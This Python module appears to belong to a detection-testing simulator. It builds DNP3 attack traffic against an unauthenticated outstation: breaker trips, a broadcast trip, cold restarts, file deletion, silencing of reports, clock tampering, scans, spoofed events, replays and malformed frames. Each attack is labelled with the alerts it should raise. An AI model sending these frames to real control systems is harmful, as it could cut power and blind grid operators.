"""Attacks on a DNP3 outstation by a stranger who plays master: no outstation without secure authentication asks who.

Each attack is one connection, bounded in requests and in time. Whether the outstation does what it is told is of no
interest: the tap sees what was asked.
"""

import time
from collections.abc import Iterator
from typing import Final

from simulator.attacks import dnp3frame as dnp3
from simulator.attacks.attack import Asking

OUTSTATION: Final = 10
MASTER: Final = 1


class Dnp3Attack(Asking):
    """Plays master. `outstation` is who is asked, `master` as whom."""

    WAY = "dnp3"

    def __init__(self, *, outstation: int = OUTSTATION, master: int = MASTER) -> None:
        self.outstation, self.master = outstation, master

    def ask(self, function: int, objects: bytes = b"", *, number: int = 0, to: int | None = None) -> bytes:
        """Return the frames of a request."""
        fragment = dnp3.request(function, objects, sequence=number)
        outstation = self.outstation if to is None else to
        return dnp3.frames(fragment, to=outstation, from_=self.master, master=True, sequence=number)

    def answer(self, fragment: bytes, *, number: int = 0) -> bytes:
        """Return the frames of a fragment that pretends to come from the outstation."""
        return dnp3.frames(fragment, to=self.master, from_=self.outstation, master=False, sequence=number)


class Dnp3Write(Dnp3Attack):
    """Writes binary outputs, and dead-bands so wide that nothing is told any more."""

    NAME = "dnp3_write"
    CHECKS = ("unauthorised_write",)

    def messages(self) -> Iterator[bytes]:
        """Yield two writes."""
        yield self.ask(2, bytes((10, 1, 0x00, 0, 3, 0x0F)))
        yield self.ask(2, bytes((34, 1, 0x00, 0, 1, 0xFF, 0x7F, 0xFF, 0x7F)), number=1)


class Dnp3DirectOperate(Dnp3Attack):
    """Trips breaker after breaker, and moves a set point."""

    NAME = "dnp3_direct_operate"
    CHECKS = ("unauthorised_write",)

    def messages(self) -> Iterator[bytes]:
        """Yield direct operates, with and without an answer."""
        for index in range(4):
            yield self.ask(5, dnp3.crob(index, dnp3.PULSE_ON | dnp3.TRIP), number=index)
        yield self.ask(6, dnp3.crob(4, dnp3.LATCH_OFF), number=4)
        yield self.ask(5, bytes((41, 2, 0x17, 1, 0, 0xE8, 0x03, 0)), number=5)


class Dnp3Broadcast(Dnp3Attack):
    """Switches all outstations of a line at once."""

    NAME = "dnp3_broadcast"
    CHECKS = ("unauthorised_write",)

    def messages(self) -> Iterator[bytes]:
        """Yield one command to everybody."""
        yield self.ask(6, dnp3.crob(0, dnp3.PULSE_ON | dnp3.TRIP), to=0xFFFF)


class Dnp3WrongTime(Dnp3Attack):
    """Sets the clock an hour wrong, so that the order of events is lost."""

    NAME = "dnp3_wrong_time"
    CHECKS = ("unauthorised_write",)

    def messages(self) -> Iterator[bytes]:
        """Yield one write of the time."""
        wrong_ms = int(time.time() * 1000) - 3_600_000
        yield self.ask(2, bytes((50, 1, 0x07, 1)) + wrong_ms.to_bytes(6, "little"))


class Dnp3FunctionScan(Dnp3Attack):
    """Tries function after function, also those that do not exist, to see what is answered."""

    NAME = "dnp3_function_scan"
    CHECKS = ("reconnaissance", "critical_function", "unauthorised_write", "file_or_program", "malformed")

    def messages(self) -> Iterator[bytes]:
        """Yield a request of each function code from 1 to 127, without objects."""
        for function in range(1, 128):
            yield self.ask(function, number=function)


class Dnp3AddressScan(Dnp3Attack):
    """Looks for outstations behind one port: asks every address for its link status and its attributes."""

    NAME = "dnp3_address_scan"
    CHECKS = ("reconnaissance",)

    def messages(self) -> Iterator[bytes]:
        """Yield a read of all device attributes for each of 32 addresses."""
        for address in range(32):
            yield self.ask(1, bytes((0, 254, 0x00, 0, 0)), number=address, to=address)


class Dnp3ColdRestart(Dnp3Attack):
    """Restarts the outstation again and again."""

    NAME = "dnp3_cold_restart"
    CHECKS = ("critical_function",)

    def messages(self) -> Iterator[bytes]:
        """Yield three cold restarts and a warm one."""
        for number, function in enumerate((13, 13, 13, 14)):
            yield self.ask(function, number=number)


class Dnp3DisableUnsolicited(Dnp3Attack):
    """Silences the outstation: what happens is not reported any more."""

    NAME = "dnp3_disable_unsolicited"
    CHECKS = ("critical_function",)

    def messages(self) -> Iterator[bytes]:
        """Yield one disabling of all classes."""
        yield self.ask(21, dnp3.classes(2, 3, 4))


class Dnp3StopApplication(Dnp3Attack):
    """Stops the application of the outstation, and saves that."""

    NAME = "dnp3_stop_application"
    CHECKS = ("critical_function",)

    def messages(self) -> Iterator[bytes]:
        """Yield a stop and a save."""
        yield self.ask(18, bytes((90, 1, 0x5B, 1, 1, 0, 0x41)))
        yield self.ask(19, number=1)


class Dnp3FileDelete(Dnp3Attack):
    """Reads what is there and deletes a file."""

    NAME = "dnp3_file_delete"
    CHECKS = ("file_or_program",)

    def messages(self) -> Iterator[bytes]:
        """Yield the opening of a directory and a deletion."""
        yield self.ask(25, dnp3.named_file("."))
        yield self.ask(27, dnp3.named_file("config.xml"), number=1)


class Dnp3Replay(Dnp3Attack):
    """Answers what nobody asked: recorded values, to whoever takes them for those of the outstation."""

    NAME = "dnp3_replay"
    CHECKS = ("orphan_response",)
    EACH_S = 0.5
    """With 30 of them, longer than the time after a start in which an answer without its question means nothing."""

    def messages(self) -> Iterator[bytes]:
        """Yield the same answer with all numbers."""
        objects = bytes((30, 2, 0x00, 0, 0, 0x01, 0x10, 0x27))
        for number in range(30):
            yield self.answer(dnp3.response(objects, sequence=number), number=number)


class Dnp3SpoofedEvents(Dnp3Attack):
    """Reports events that never happened, as if the outstation did so by itself."""

    NAME = "dnp3_spoofed_events"
    CHECKS = ("unexpected_unsolicited",)

    def messages(self) -> Iterator[bytes]:
        """Yield unsolicited responses: a breaker opens and closes."""
        for number in range(8):
            event = bytes((2, 1, 0x17, 1, 0, 0x81 if number % 2 else 0x01))
            yield self.answer(dnp3.unsolicited(event, sequence=number), number=number)


class Dnp3Malformed(Dnp3Attack):
    """Probes for weaknesses: wrong check sequences, objects that are cut, lengths that cannot be."""

    NAME = "dnp3_malformed"
    CHECKS = ("malformed",)

    def messages(self) -> Iterator[bytes]:
        """Yield broken frames and fragments, with good ones between them."""
        for number in range(4):
            good = self.ask(1, dnp3.classes(2), number=number)
            yield good[:-1] + bytes((good[-1] ^ 0xFF,))
            yield good
            yield self.ask(5, dnp3.crob(1)[:9], number=number)
            yield self.ask(2, bytes((110, 0, 0x01, 0, 0, 0xFF, 0xFF)) * 300, number=number)


ATTACKS: Final[tuple[type[Dnp3Attack], ...]] = (
    Dnp3AddressScan,
    Dnp3Broadcast,
    Dnp3ColdRestart,
    Dnp3DirectOperate,
    Dnp3DisableUnsolicited,
    Dnp3FileDelete,
    Dnp3FunctionScan,
    Dnp3Malformed,
    Dnp3Replay,
    Dnp3SpoofedEvents,
    Dnp3StopApplication,
    Dnp3Write,
    Dnp3WrongTime,
)
